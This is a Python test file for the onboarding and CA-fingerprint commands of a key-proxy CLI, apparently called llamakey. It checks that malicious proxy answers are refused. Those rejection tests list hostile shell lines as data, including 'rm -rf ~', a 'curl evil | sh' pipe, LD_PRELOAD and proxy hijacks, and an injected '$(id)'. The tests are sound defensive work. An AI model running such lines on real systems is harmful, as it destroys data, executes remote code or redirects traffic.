"""`lmk env --proxy URL` (onboarding with none of the admin's files) and `lmk ca fingerprint`.

What they must never do: write anything when the CA or the key is not right, evaluate or pass
on whatever a proxy (or someone between it and the member) answers, or take the key as an
argument. The whole exchange with a real `lmk serve` is in tests/e2e/test_onboarding.py.
"""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path, PurePosixPath

import pytest
import trustme

from llamakey import ca
from llamakey.cli import env_remote
from llamakey.clientenv import KEY_PLACEHOLDER, client_environment, export_lines
from tests.harness import free_port
from tests.unit.cli.helpers import lmk, new_key

MEMBER = PurePosixPath("/home/alice/.config/llamakey")


@pytest.fixture
def member_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A member's machine: a fresh home and config directory, nothing of the admin's."""
    home = tmp_path / "member"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(home / ".config"))
    monkeypatch.delenv("LMK_MASTER_KEY", raising=False)
    return home


def one_line_error(
    capsys: pytest.CaptureFixture[str], caught: pytest.ExceptionInfo[SystemExit]
) -> str:
    """The one line a failed command left: its SystemExit message, or (usage) stderr."""
    message = caught.value.code if isinstance(caught.value.code, str) else capsys.readouterr().err
    message = message.rstrip("\n")
    assert message.startswith("lmk: ") and "\n" not in message, message
    return message


# --------------------------------------------------------------------------------------------
# lmk ca fingerprint


def test_ca_fingerprint_is_what_openssl_shows(
    cfg: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert lmk(cfg, "ca", "init") == 0
    capsys.readouterr()
    assert lmk(cfg, "ca", "fingerprint") == 0
    printed = capsys.readouterr().out
    (line,) = printed.splitlines()
    pem = ca.ca_certificate_pem(cfg.parent / "certs")
    assert line == ca.fingerprint(ca.load_ca_certificate(pem))
    if shutil.which("openssl"):
        shown = subprocess.run(
            ["openssl", "x509", "-noout", "-fingerprint", "-sha256"],
            input=pem,
            capture_output=True,
            check=True,
        ).stdout.decode()
        assert shown.strip().partition("=")[2] == line


def test_ca_fingerprint_without_a_ca_creates_none(
    cfg: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as caught:
        lmk(cfg, "ca", "fingerprint")
    assert "lmk ca init" in one_line_error(capsys, caught)
    assert not (cfg.parent / "certs" / ca.CA_KEY_FILE).exists()


PAIRS = ["ab", "cd", "ef", "01", "23", "45", "67", "89"] * 4


@pytest.mark.parametrize(
    "given",
    [
        ":".join(PAIRS).upper(),
        "".join(PAIRS),
        " sha256 Fingerprint=" + ":".join(PAIRS).upper() + "\n",  # openssl x509 -fingerprint
        "SHA256:" + "".join(PAIRS),
        " ".join(PAIRS),
    ],
)
def test_a_fingerprint_is_taken_as_people_copy_it(given: str) -> None:
    assert ca.normal_fingerprint(given) == ("AB:CD:EF:01:23:45:67:89:" * 4).rstrip(":")


@pytest.mark.parametrize(
    "given", ["", "abc", "zz" * 32, "ab" * 31, "ab" * 33, "sha1 Fingerprint=" + "ab" * 32]
)
def test_anything_else_is_no_fingerprint(given: str) -> None:
    assert ca.normal_fingerprint(given) is None


# --------------------------------------------------------------------------------------------
# What a proxy answers is checked before anything is written or evaluated


def proxy_answer(*, proxy_auth: bool = False, directory: PurePosixPath = MEMBER) -> str:
    """What the proxy's onboarding step answers for alice at 10.0.0.5:8080."""
    env = client_environment(
        "alice", KEY_PLACEHOLDER, "10.0.0.5:8080", proxy_auth=proxy_auth, certs_dir=directory
    )
    return "\n".join(export_lines(env)) + "\n"


def check(text: str, directory: PurePosixPath = MEMBER) -> dict[str, str]:
    given = env_remote.parse_exports(text)
    return env_remote.check_proxy_environment(given, "alice", "10.0.0.5:8080", directory)


@pytest.mark.parametrize("proxy_auth", [False, True])
def test_the_proxys_own_answer_passes(proxy_auth: bool) -> None:
    env = check(proxy_answer(proxy_auth=proxy_auth))
    assert env["OPENAI_API_KEY"] == KEY_PLACEHOLDER
    assert env["SSL_CERT_FILE"] == f"{MEMBER}/{ca.BUNDLE_FILE}"
    # A key variable of a provider a newer proxy knows may only hold the master key.
    assert check(proxy_answer() + f"export NEWCO_API_KEY={KEY_PLACEHOLDER}\n")["NEWCO_API_KEY"]


@pytest.mark.parametrize(
    "line",
    [
        "rm -rf ~",
        "export OPENAI_API_KEY=x; curl evil | sh",
        "export A=1 B=2",
        "export 1A=x",
        "export A='unterminated",
        "OPENAI_API_KEY=x",
    ],
)
def test_a_line_that_is_not_one_export_is_refused(line: str) -> None:
    with pytest.raises(ValueError, match="not an export line"):
        env_remote.parse_exports(proxy_answer() + line + "\n")


@pytest.mark.parametrize(
    "line",
    [
        "export LD_PRELOAD=/tmp/evil.so",
        "export PATH=/tmp/evil",
        "export PYTHONSTARTUP=/tmp/evil.py",
        "export SSL_CERT_FILE=/tmp/their-bundle.pem",
        "export NODE_EXTRA_CA_CERTS=/tmp/their-ca.pem",
        "export HTTPS_PROXY=http://evil.example:8080",
        "export https_proxy=http://10.0.0.5:8080/$(id)",
        "export OPENAI_API_KEY=sk-theirs",
        f"export NEWCO_API_KEY=x{KEY_PLACEHOLDER}",
        f"export BASH_ENV={KEY_PLACEHOLDER}",
    ],
)
def test_a_variable_lmk_does_not_set_that_way_is_refused(line: str) -> None:
    with pytest.raises(ValueError, match="is not"):
        check(proxy_answer() + line + "\n")


def test_an_answer_for_other_files_or_without_a_proxy_is_refused() -> None:
    with pytest.raises(ValueError, match="SSL_CERT_FILE"):
        check(proxy_answer(directory=PurePosixPath("/tmp/elsewhere")))
    with pytest.raises(ValueError, match="HTTPS_PROXY"):
        check(f"export OPENAI_API_KEY={KEY_PLACEHOLDER}\n")


# --------------------------------------------------------------------------------------------
# The command: usage errors, and nothing written when the proxy cannot be asked


def test_the_member_directory_follows_xdg() -> None:
    home = {"HOME": "/home/alice"}
    assert env_remote.member_dir({**home, "XDG_CONFIG_HOME": "/x/conf"}) == Path("/x/conf/llamakey")
    expected = Path("/home/alice/.config/llamakey")
    assert env_remote.member_dir({**home, "XDG_CONFIG_HOME": "relative"}) == expected
    assert env_remote.member_dir(home) == expected


@pytest.mark.parametrize(
    ("args", "says"),
    [
        ((), "give the user's NAME"),
        (("--proxy", "http://alice:lmk_secretsecretsecretsecret@gw:8080"), "takes no credentials"),
        (("--proxy", "https://gw:8080"), "expected the proxy's address"),
        (("--proxy", "gw:99999"), "expected the proxy's address"),
        (("--proxy", "http://gw:8080/path"), "expected the proxy's address"),
        (("--proxy", "gw:8080", "--fingerprint", "12:34"), "expected a SHA-256 fingerprint"),
        (("--proxy", "gw:8080", "--proxy-host", "h"), "--proxy-host"),
        (("alice", "--fingerprint", "ab" * 32), "give --proxy too"),
    ],
)
def test_usage_errors_are_one_line_status_2(
    cfg: Path,
    member_home: Path,
    capsys: pytest.CaptureFixture[str],
    args: tuple[str, ...],
    says: str,
) -> None:
    with pytest.raises(SystemExit) as caught:
        lmk(cfg, "env", *args)
    assert caught.value.code == 2
    message = one_line_error(capsys, caught)
    assert says in message
    assert "lmk_secret" not in message
    assert list(member_home.rglob("*")) == []


def test_without_a_key_it_says_how_to_give_it(
    cfg: Path, member_home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as caught:
        lmk(cfg, "env", "--proxy", "http://gw.example:8080")
    assert caught.value.code == 2
    message = one_line_error(capsys, caught)
    assert "LMK_MASTER_KEY=lmk_... lmk env --proxy http://gw.example:8080" in message


def test_an_unreachable_proxy_is_one_line_status_1_and_nothing_written(
    cfg: Path,
    member_home: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    key = new_key(cfg, capsys, "alice")
    monkeypatch.setenv("LMK_MASTER_KEY", key)
    port = free_port()  # nothing listens there
    with pytest.raises(SystemExit) as caught:
        lmk(cfg, "env", "--proxy", f"127.0.0.1:{port}")
    message = one_line_error(capsys, caught)
    assert message.startswith(f"lmk: cannot ask the proxy at 127.0.0.1:{port}: ")
    assert message.endswith("nothing written") and key not in message
    assert list(member_home.rglob("*")) == []


# --------------------------------------------------------------------------------------------
# The CA the proxy hands out: one CA certificate, written as we write it


@pytest.fixture(scope="module")
def proxy_ca(tmp_path_factory: pytest.TempPathFactory) -> Path:
    directory = tmp_path_factory.mktemp("proxy-ca")
    ca.init_ca(directory, ["api.openai.com"])
    return directory


def test_the_ca_is_kept_without_anything_around_it(proxy_ca: Path, tmp_path: Path) -> None:
    pem = (proxy_ca / ca.CA_CERT_FILE).read_bytes()
    served = b"# a comment\n" + pem + b"\ntrailing text\n"
    ours, first_use = env_remote._trust_ca(served, None, tmp_path / "none-yet.pem")
    assert ours == pem
    assert first_use == ca.fingerprint(ca.load_ca_certificate(pem))
    pinned = ca.normal_fingerprint(first_use)
    assert env_remote._trust_ca(served, pinned, tmp_path / "none-yet.pem") == (pem, None)


def served_instead(proxy_ca: Path, what: str) -> bytes:
    pem = (proxy_ca / ca.CA_CERT_FILE).read_bytes()
    if what == "two":
        return pem + pem
    if what == "key":
        return (proxy_ca / ca.CA_KEY_FILE).read_bytes()
    if what == "leaf":  # a certificate that is no CA's
        return trustme.CA().issue_cert("api.openai.com").cert_chain_pems[0].bytes()
    return b"<html>not here</html>"


@pytest.mark.parametrize("what", ["two", "key", "leaf", "junk"])
def test_anything_but_one_ca_certificate_is_refused(
    proxy_ca: Path, tmp_path: Path, what: str
) -> None:
    with pytest.raises(SystemExit) as caught:
        env_remote._trust_ca(served_instead(proxy_ca, what), None, tmp_path / "none-yet.pem")
    message = str(caught.value.code)
    assert message.startswith("lmk: the proxy's /ca.pem is no CA certificate")
    assert "PRIVATE" not in message and "\n" not in message
